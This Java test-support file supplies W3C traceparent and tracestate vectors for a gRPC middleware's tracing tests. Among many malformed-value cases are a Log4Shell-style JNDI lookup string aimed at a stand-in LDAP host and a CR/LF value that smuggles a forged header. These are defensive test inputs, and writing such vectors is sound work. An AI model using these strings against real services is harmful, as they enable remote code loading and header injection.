package io.github.grpcmiddleware.testsupport;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * W3C Trace Context inputs shared by core's trace tests and otel's: {@code traceparent} values a
 * receiver must continue or must replace with a new trace (per the specification's parsing rules,
 * higher versions included), and builders of {@code tracestate} lists. Each test asserts what its
 * own part does with them.
 */
public final class TraceContextVectors {
  public static final String TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736";
  public static final String PARENT_ID = "00f067aa0ba902b7";

  /** Version 00, sampled. */
  public static final String VALID = "00-" + TRACE_ID + "-" + PARENT_ID + "-01";

  /** A named {@code traceparent} value, and whether a receiver continues its trace. */
  public record Traceparent(String name, String value, boolean continues) {}

  private TraceContextVectors() {}

  /** Sampled values only: whether a value is not sampled is each test's own case. */
  public static List<Traceparent> traceparents() {
    String t = TRACE_ID;
    String p = PARENT_ID;
    return List.of(
        new Traceparent("version 00", VALID, true),
        new Traceparent("unknown flag bits", "00-" + t + "-" + p + "-09", true),
        new Traceparent("higher version, 55 chars", "01-" + t + "-" + p + "-01", true),
        new Traceparent("higher version, more fields", "cc-" + t + "-" + p + "-01-what-next", true),
        new Traceparent("higher version, trailing dash", "fe-" + t + "-" + p + "-01-", true),
        new Traceparent("version ff", "ff-" + t + "-" + p + "-01", false),
        new Traceparent("uppercase trace id", "00-" + t.toUpperCase() + "-" + p + "-01", false),
        new Traceparent("uppercase parent id", "00-" + t + "-" + p.toUpperCase() + "-01", false),
        new Traceparent("uppercase flags", "00-" + t + "-" + p + "-0A", false),
        new Traceparent("uppercase flags, unknown bits", "00-" + t + "-" + p + "-0B", false),
        new Traceparent("uppercase version", "0A-" + t + "-" + p + "-01", false),
        new Traceparent("zero trace id", "00-" + "0".repeat(32) + "-" + p + "-01", false),
        new Traceparent("zero parent id", "00-" + t + "-" + "0".repeat(16) + "-01", false),
        new Traceparent("version 00 too long", VALID + "-", false),
        new Traceparent("version 00 too long, more fields", VALID + "-what-next", false),
        new Traceparent("too short", VALID.substring(0, 54), false),
        new Traceparent("higher version too short", "01-" + t + "-" + p + "-1", false),
        new Traceparent("higher version, no dash after flags", "01-" + t + "-" + p + "-01x", false),
        new Traceparent("non-hex trace id", "00-" + t.substring(0, 31) + "g-" + p + "-01", false),
        new Traceparent("non-hex version", "0g-" + t + "-" + p + "-01", false),
        new Traceparent("non-hex flags", "00-" + t + "-" + p + "-0z", false),
        new Traceparent("wrong delimiter", "00_" + t + "-" + p + "-01", false),
        new Traceparent("short trace id", "00-" + t.substring(1) + "-" + p + "-01x", false),
        new Traceparent("leading space", " " + VALID.substring(0, 54), false),
        new Traceparent("empty", "", false),
        new Traceparent("10 KB", "0".repeat(10 * 1024), false),
        new Traceparent("CR/LF", "00-" + t + "\r\n-" + p + "-01", false),
        new Traceparent("CR/LF after a valid value", VALID + "\r\nx-forged: 1", false),
        new Traceparent("non-ASCII", "00-" + t.substring(0, 31) + "é-" + p + "-01", false),
        new Traceparent("lookup syntax", "${jndi:ldap://x.example/a}-" + t + "-" + p, false));
  }

  /** {@code count} tracestate members {@code m<i>=v}, starting at index {@code from}. */
  public static String members(int from, int count) {
    return IntStream.range(from, from + count)
        .mapToObj(i -> "m" + i + "=v")
        .collect(Collectors.joining(","));
  }

  /** Every printable ASCII character but {@code ,} and {@code =}, ending in {@code ~}. */
  public static String printable() {
    StringBuilder sb = new StringBuilder();
    for (char c = 0x20; c <= 0x7e; c++) {
      if (c != ',' && c != '=') {
        sb.append(c);
      }
    }
    return sb.toString();
  }

  /** A valid tracestate list of exactly {@code length} (259 to 515) characters: two members. */
  public static String ofLength(int length) {
    return "a=" + "v".repeat(256) + ",b=" + "w".repeat(length - 261);
  }
}
